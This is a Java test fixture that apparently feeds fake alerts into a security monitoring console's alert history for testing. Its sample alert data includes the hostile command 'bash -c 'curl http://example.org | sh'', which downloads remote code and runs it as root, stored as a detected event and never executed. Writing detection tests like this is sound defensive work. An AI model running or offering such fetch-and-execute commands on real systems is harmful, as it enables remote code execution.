package org.eyas.console.page;

import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Consumer;
import org.eyas.api.alert.Alert;
import org.eyas.api.alert.Priority;
import org.eyas.api.history.AlertDetails;
import org.eyas.api.history.AlertHistory;
import org.eyas.api.history.AlertProcess;
import org.eyas.api.history.AlertProcess.Relation;
import org.eyas.api.history.AlertSearch;
import org.eyas.api.history.PastAlert;
import org.eyas.engine.history.HistorySearch;
import org.eyas.engine.history.RecentAlertStore;
import org.jspecify.annotations.Nullable;

/** Alerts that a test raises, in a real history. */
public final class FakeAlerts implements AlertHistory {
  private static final long MEMORY_BYTES = 4 << 20;

  private final long started = Instant.now().toEpochMilli() * 1_000_000;
  private final RecentAlertStore memory = new RecentAlertStore(MEMORY_BYTES);
  private final AlertSearch search = new HistorySearch(memory, InstantSource.system());

  public void raise(Priority priority, String rule, String message, String... tags) {
    raise(priority, rule, message, new TreeMap<>(), tags);
  }

  /** An alert of a container in a pod. */
  public void raiseInPod(String rule, String container, String namespace, String pod) {
    TreeMap<String, @Nullable Object> fields = new TreeMap<>();
    fields.put("container.name", container);
    fields.put("k8s.ns.name", namespace);
    fields.put("k8s.pod.name", pod);
    raise(Priority.NOTICE, rule, "in a pod", fields);
  }

  /** An alert of a container and a session. */
  public void raiseInSession(String rule, String container, String session) {
    raise(Priority.NOTICE, rule, "in a session", new TreeMap<>(Map.of("container.id", container, "session.id", session)));
  }

  /** An alert of a command line. */
  public void raiseWithCommand(String rule, String command) {
    raise(Priority.NOTICE, rule, "with a command line", new TreeMap<>(Map.of("proc.cmdline", command)));
  }

  /** An alert of a time, of a process that began before. */
  public void raiseTimed(String rule, long nanos, long durationNanos) {
    raise(Priority.NOTICE, rule, "with times", new TreeMap<>(Map.of("evt.time", nanos, "proc.duration", durationNanos)));
  }

  private void raise(Priority priority, String rule, String message, TreeMap<String, @Nullable Object> fields, String... tags) {
    fields.putIfAbsent("proc.cmdline", "bash -c 'curl http://example.org | sh'");
    fields.put("proc.pid", 4_711L);
    fields.putIfAbsent("container.id", null);
    long now = Instant.now().toEpochMilli() * 1_000_000;
    Alert alert = new Alert(now, priority, rule, "syscall", message, fields, new TreeSet<>(List.of(tags)));
    String explanation = "spawned_process and proc.name = bash\n  true   spawned_process\n  true   proc.name = bash";
    SortedMap<String, String> read = new TreeMap<>(Map.of("evt.type", "execve", "proc.name", "bash"));
    memory.describe(alert, new AlertDetails(processes(started), explanation, read));
    memory.add(alert);
  }

  /** An alert for whose details there was no budget. */
  public void raiseUndetailed(String rule, String message) {
    memory.add(
        new Alert(
            Instant.now().toEpochMilli() * 1_000_000, Priority.NOTICE, rule, "syscall", message, new TreeMap<>(),
            new TreeSet<>()));
  }

  /** An alert of a minute in which so many alerts, up to this one, have no details. */
  public void raiseLeftOut(String rule, long number) {
    Alert alert =
        new Alert(
            Instant.now().toEpochMilli() * 1_000_000, Priority.NOTICE, rule, "syscall", "left out", new TreeMap<>(),
            new TreeSet<>());
    memory.describe(alert, AlertDetails.leftOut(number));
    memory.add(alert);
  }

  /** An alert of an event that has no process. */
  public void raiseExplained(String rule, String message) {
    Alert alert =
        new Alert(
            Instant.now().toEpochMilli() * 1_000_000, Priority.NOTICE, rule, "k8s_audit", message, new TreeMap<>(),
            new TreeSet<>());
    memory.describe(alert, new AlertDetails(List.of(), "because of ka.verb", new TreeMap<>()));
    memory.add(alert);
  }

  /** An alert of a time, a program and a user. */
  public void raiseAt(long nanos, String rule, String program, String user) {
    TreeMap<String, @Nullable Object> fields = new TreeMap<>(Map.of("proc.name", program, "user.name", user));
    memory.add(new Alert(nanos, Priority.NOTICE, rule, "syscall", "by " + program, fields, new TreeSet<>()));
  }

  private static List<AlertProcess> processes(long started) {
    return List.of(
        process(Relation.ITSELF, 4_711, 4_710, "bash", "bash -c 'curl http://example.org | sh'", started),
        process(Relation.ANCESTOR, 4_710, 812, "sshd", "sshd: root@pts/0", started - 3_000_000_000L),
        process(Relation.ANCESTOR, 812, 1, "sshd", "sshd", 0),
        process(Relation.ANCESTOR, 1, -1, "systemd", "systemd", 0),
        process(Relation.CHILD, 4_712, 4_711, "curl", "curl http://example.org", started));
  }

  private static AlertProcess process(Relation relation, long pid, long parent, String name, String command, long start) {
    return new AlertProcess(relation, pid, parent, name, "root", "/usr/bin/" + name, command, start, "");
  }

  /** The alerts from which a new engine continues. */
  public FakeAlerts successor() {
    FakeAlerts next = new FakeAlerts();
    next.memory.resumeFrom(memory.toHandover(List.of()));
    return next;
  }

  public boolean isFollowed() {
    return memory.isFollowed();
  }

  AlertSearch search() {
    return search;
  }

  @Override
  public List<PastAlert> recent(int most) {
    return memory.recent(most);
  }

  @Override
  public Optional<PastAlert> find(long number) {
    return memory.find(number);
  }

  @Override
  public Following follow(Consumer<PastAlert> listener) {
    return memory.follow(listener);
  }
}
